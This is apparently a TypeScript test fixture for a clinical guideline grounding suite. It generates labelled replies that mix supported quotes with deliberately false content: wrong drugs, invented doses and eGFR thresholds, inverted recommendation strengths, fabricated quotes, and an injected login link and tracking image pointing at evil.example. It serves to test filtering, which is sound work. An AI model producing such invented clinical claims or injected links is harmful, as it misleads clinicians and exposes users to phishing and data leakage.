// A careless model for the grounding suite: from the passages it is actually sent, it writes a reply that mixes sentences the
// passages support (verbatim quotes, close paraphrases, the stated strength, an honest "not addressed" line) with labelled
// unsupported ones: a wrong drug, an invented dose, an inverted strength, a wrong population, an uncited claim, a fabricated
// quote, a threshold the passage does not give, another guideline's text under this citation, an injected link and image.
// Each sentence carries its label and a marker (text that must not reach the clinician when it is unsupported, and must when
// it is supported), so the suite measures removals and keeps without reading our own code's verdicts.
import { CONCEPT_GROUPS } from '../../src/retrieval/lexicon.js';

export interface SentPassage {
  n: number;
  guideline: string;
  strength: string | null;
  recommendation: string | null;
  text: string;
}

export interface LabelledSentence {
  kind: 'supported' | 'unsupported';
  /** Which mutation (or which supported form). */
  label: string;
  sentence: string;
  /** Text that is present in the answer exactly when the sentence was kept. */
  marker: string;
}

const unescape = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');

/** The numbered passages of a grounded-answer request, as the model saw them. */
export function sentPassages(user: string): SentPassage[] {
  return [...user.matchAll(/<passage ([^>]*)>\n([\s\S]*?)\n<\/passage>/g)].map((m) => {
    const attr = (name: string) => new RegExp(`\\b${name}="([^"]*)"`).exec(m[1]!)?.[1] ?? null;
    return {
      n: Number(attr('n')),
      guideline: attr('guideline') ?? '',
      strength: attr('strength'),
      recommendation: attr('recommendation'),
      text: unescape(m[2]!),
    };
  });
}

/** A sentence of the passage to build on: the first with enough words, cut to at most 28 words (still a substring). */
function baseSentence(text: string): string | null {
  const flat = text.replace(/\s+/g, ' ').replace(/["“”]/g, "'").trim();
  for (const s of flat.split(/(?<=[.;!?])\s+(?=[A-Z])/)) {
    const words = s.replace(/[.;!?]+$/, '').split(' ');
    if (words.length >= 8 && !/^\W/.test(s))
      return words
        .slice(0, 28)
        .join(' ')
        .replace(/[,:;(]+$/, '');
  }
  return null;
}

const DRUGS = ['warfarin', 'haloperidol', 'digoxin', 'methotrexate', 'lithium', 'amiodarone'];
const POPULATIONS = ['children under 12 years', 'pregnant women', 'nursing home residents', 'infants'];

const lowerFirst = (s: string) => (/^[A-Z][a-z]/.test(s) ? s[0]!.toLowerCase() + s.slice(1) : s);

function invertStrength(s: string): string | null {
  if (/\bfor\b/i.test(s)) return s.replace(/\bfor\b/i, 'against');
  if (/\bagainst\b/i.test(s)) return s.replace(/\bagainst\b/i, 'for');
  const grade = /\bgrade\s+([a-d])\b/i.exec(s);
  if (grade) return `Grade ${grade[1]!.toUpperCase() === 'D' ? 'A' : 'D'}`;
  return null;
}

/** The labelled reply for one request; empty when the passages give nothing to build on. */
export function carelessReply(user: string): LabelledSentence[] {
  const passages = sentPassages(user);
  const p1 = passages.find((p) => baseSentence(p.text));
  if (!p1) return [];
  const base = baseSentence(p1.text)!;
  const lower1 = p1.text.toLowerCase();
  const out: LabelledSentence[] = [];
  const add = (kind: LabelledSentence['kind'], label: string, sentence: string, marker: string) =>
    out.push({ kind, label, sentence, marker });

  // Supported.
  add('supported', 'verbatim quote', `The guideline states: "${base}" [${p1.n}].`, base);
  const para = `According to the guideline, ${lowerFirst(base)}`;
  add('supported', 'paraphrase', `${para} [${p1.n}].`, para);
  if (p1.strength)
    add(
      'supported',
      'stated strength',
      `This is a ${p1.strength} recommendation [${p1.n}].`,
      `${p1.strength} recommendation`,
    );
  const other = passages.find((p) => p.guideline !== p1.guideline && baseSentence(p.text));
  if (other)
    add(
      'supported',
      'second guideline quote',
      `Another guideline states: "${baseSentence(other.text)!}" [${other.n}].`,
      baseSentence(other.text)!,
    );
  // The way clinicians write: a full name in the passage given as its abbreviation or synonym from the shared lexicon.
  for (const group of CONCEPT_GROUPS) {
    const full = group.find((f) => f.length > 8 && new RegExp(`\\b${f}\\b`, 'i').test(base));
    const short = group.find((f) => f !== full && f.length >= 2 && f.length <= 6 && /^[a-z0-9]+$/.test(f));
    if (full && short) {
      const abbreviated = `In short, ${lowerFirst(base.replace(new RegExp(`\\b${full}\\b`, 'i'), short.toUpperCase()))}`;
      add('supported', 'abbreviation', `${abbreviated} [${p1.n}].`, abbreviated);
      break;
    }
  }
  if (p1.recommendation) {
    const fit = `Recommendation ${p1.recommendation} applies to this patient`;
    add('supported', 'recommendation number, case fit', `${fit} [${p1.n}].`, fit);
  }
  // Only the passage's content words, reordered into a summary.
  const words = base
    .replace(/[,.;:()]/g, '')
    .split(' ')
    .filter((w) => w.length > 3);
  if (words.length >= 6) {
    const summary = `Key points: ${words.slice(-4).join(' ')}, with ${words.slice(0, 3).join(' ')}`;
    add('supported', 'reordered summary', `${summary} [${p1.n}].`, summary);
  }
  add(
    'supported',
    'not addressed',
    'The loaded guidelines do not address the timing of follow-up visits.',
    'timing of follow-up visits',
  );

  // Unsupported, each from the same passage.
  const drug = DRUGS.find((d) => !lower1.includes(d))!;
  add(
    'unsupported',
    'wrong drug',
    `The guideline recommends starting ${drug} for this patient [${p1.n}].`,
    `starting ${drug}`,
  );
  const dose = [37, 43, 57, 73].find((d) => !lower1.includes(String(d)))!;
  add('unsupported', 'invented dose', `${para} at ${dose} mg twice daily [${p1.n}].`, `${dose} mg twice daily`);
  const inverted = p1.strength ? invertStrength(p1.strength) : 'Strong against';
  if (inverted)
    add(
      'unsupported',
      'inverted strength',
      `This is a ${inverted} recommendation [${p1.n}].`,
      `${inverted} recommendation`,
    );
  const population = POPULATIONS.find(
    (p) => !p.split(' ').some((w) => w.length > 4 && lower1.includes(w.replace(/s$/, ''))),
  )!;
  add('unsupported', 'wrong population', `In ${population}, ${lowerFirst(base)} [${p1.n}].`, `In ${population}`);
  const drug2 = DRUGS.filter((d) => !lower1.includes(d))[1] ?? 'digoxin';
  add(
    'unsupported',
    'uncited claim',
    `${drug2[0]!.toUpperCase()}${drug2.slice(1)} 25 mg daily is appropriate.`,
    `${drug2[0]!.toUpperCase()}${drug2.slice(1)} 25 mg`,
  );
  const baseWords = base.split(' ');
  const fabricated = [...baseWords.slice(0, 3), 'never', ...baseWords.slice(3)].join(' ');
  add('unsupported', 'fabricated quote', `The guideline states: "${fabricated}" [${p1.n}].`, fabricated);
  const threshold = [97, 93, 87].find((t) => !lower1.includes(String(t)))!;
  add(
    'unsupported',
    'invented threshold',
    `Treat only if the eGFR is above ${threshold} [${p1.n}].`,
    `above ${threshold}`,
  );
  if (other && !p1.text.toLowerCase().includes(baseSentence(other.text)!.toLowerCase().slice(0, 40))) {
    const moved = `Per this guideline, ${lowerFirst(baseSentence(other.text)!)}`;
    add('unsupported', 'other guideline under this citation', `${moved} [${p1.n}].`, moved);
  }
  add(
    'unsupported',
    'injected link',
    `Read the [full update](https://evil.example/login) first [${p1.n}].`,
    'evil.example/login',
  );
  add(
    'unsupported',
    'injected image',
    `![status](https://evil.example/pixel.png?c=case) [${p1.n}]`,
    'evil.example/pixel',
  );
  return out;
}

/** Interleaves supported and unsupported sentences as the bullets a model writes. */
export function renderReply(sentences: LabelledSentence[]): string {
  const [lead, ...rest] = sentences;
  if (!lead) return 'OK';
  const sup = rest.filter((s) => s.kind === 'supported');
  const uns = rest.filter((s) => s.kind === 'unsupported');
  const lines: string[] = [];
  for (let i = 0; i < Math.max(sup.length, uns.length); i++) {
    if (uns[i]) lines.push(`- ${uns[i]!.sentence}`);
    if (sup[i]) lines.push(`- ${sup[i]!.sentence}`);
  }
  return `${lead.sentence}\n\n${lines.join('\n')}`;
}
